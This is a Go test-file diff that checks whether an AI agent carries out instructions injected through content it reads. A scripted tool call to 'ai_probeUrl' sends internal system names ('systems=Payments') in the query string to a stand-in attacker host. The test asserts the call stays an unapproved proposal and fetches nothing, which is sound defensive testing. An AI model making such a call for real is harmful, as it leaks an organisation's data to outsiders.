@@ -94,6 +94,17 @@ func TestWhatAPageSaysIsNotDone(t *testing.T) { //nolint:tparallel // its parts 
 		require.Equal(t, proposal.Proposed, turn.Card(t, "proposal").Status, turn.Text())
 		require.Zero(t, g.evils(t))
 	})
+	for _, mode := range []string{"auto", "approve"} {
+		t.Run("by carrying out what the chat holds in an address, in "+mode+" mode", func(t *testing.T) {
+			chat := operator.Conversation(t, apptest.Settings{"permissionMode": mode})
+			before := g.Count(t, `SELECT count(*) FROM ai_taints WHERE kind = 'tool'`)
+			g.calls(call("catalog_listSystems", `{}`))
+			g.calls(call("ai_probeUrl", `{"url":"`+g.evil+`?systems=Payments"}`))
+			card := chat.Say(t, "Check our systems").Card(t, "proposal")
+			require.Equal(t, proposal.Proposed, card.Status)
+			require.Equal(t, before, g.Count(t, `SELECT count(*) FROM ai_taints WHERE kind = 'tool'`), "nothing was fetched")
+		})
+	}
 	t.Run("when the mode is changed afterwards", func(t *testing.T) {
 		chat := operator.Conversation(t, nil)
 		g.calls(call("ai_probeUrl", `{"url":"`+g.evil+`"}`))
